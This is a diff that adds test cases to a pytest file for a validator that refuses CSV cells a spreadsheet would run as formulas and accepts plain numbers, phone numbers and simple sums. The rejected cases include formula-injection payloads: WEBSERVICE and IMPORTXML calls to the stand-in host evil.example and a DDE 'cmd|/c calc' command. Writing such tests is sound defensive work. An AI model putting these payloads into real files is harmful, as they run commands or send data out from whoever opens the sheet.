@@ -188,6 +188,12 @@ def test_size_and_kinds_come_from_the_setting(content):
     (b"a\tb\n@SUM(1+1)*cmd|' /C calc'!A0\t1\n", 2),
     (b'a,b\n" =HYPERLINK(""https://evil.example/"",""Click"")",1\n', 2),
     (b"x,y\n1,+ImportXML (\"https://evil.example\",\"//a\")\n", 2),
+    (b'a;b\n1;=IF(1,WEBSERVICE("https://evil.example/"))\n', 2),  # one cell where the semicolon separates
+    (b'a\n=IF(")"="",0,WEBSERVICE("https://evil.example/"))\n', 2),  # a bracket in quotes ends nothing
+    (b'a\n=IF(1,"x,=WEBSERVICE(1)",2)\n', 2),  # a cell inside another's quotes, as a comma program reads it
+    (b'a\nab"c,=WEBSERVICE(1)&""\n', 2),  # a quote inside a cell starts no quoted cell
+    (b'a\n="x"&cmd|\'/c calc\'!A0\n', 2),
+    (b'a\n"=IFERROR(__xludf.DUMMYFUNCTION(""IMPORTXML(""""https://evil.example"""",""""//a"""")""),""x"")"\n', 2),
 ])
 def test_a_table_cell_a_spreadsheet_runs_as_a_formula_is_refused_at_its_line(tmp_path, table, line):
     path = tmp_path / "images" / "table.csv"
@@ -203,6 +209,13 @@ def test_a_table_cell_a_spreadsheet_runs_as_a_formula_is_refused_at_its_line(tmp
     b"phone,change\n+44 (0)151 555 0000,-5\n0151 555 0001,-\n",  # a phone number, a negative number, a dash
     b"sum,note\n=A1+B1,@nhsuk on social media\n",  # arithmetic on cells fetches nothing; a handle calls nothing
     b'quote,x\n"She said: ""carers (and staff) matter""",1\n',
+    b"a,b,total\n1,2,=SUM(A2:B2)\n",  # a sum calls nothing out
+    b"phone,booking\n+44 (0)151 555 0000,Register (free) at the desk\n",  # words after a phone number's cell
+    b"date,cost,booking\n2026-05-01,-,Call (0151) 555 0000 to book\n",
+    b"day,who\n- Mon (9am),@MerseyCare (on X)\n",  # text a writer starts with a dash or a handle
+    b'place,x\n"Liverpool, - drop-in (Tuesdays)",1\n',  # a comma inside a quoted cell starts no cell
+    b'a,b,joined\n1,2,"=A2&"" | ""&B2"\n',  # a bar in a formula's quotes is a character
+    b"phone,hours\n+44 151 555 0000 | text relay 18001,Mon | Fri\n",  # a bar with no item after it links nothing
 ])
 def test_numbers_phone_numbers_and_plain_formulas_in_a_table_are_published(tmp_path, table):
     path = tmp_path / "images" / "table.csv"
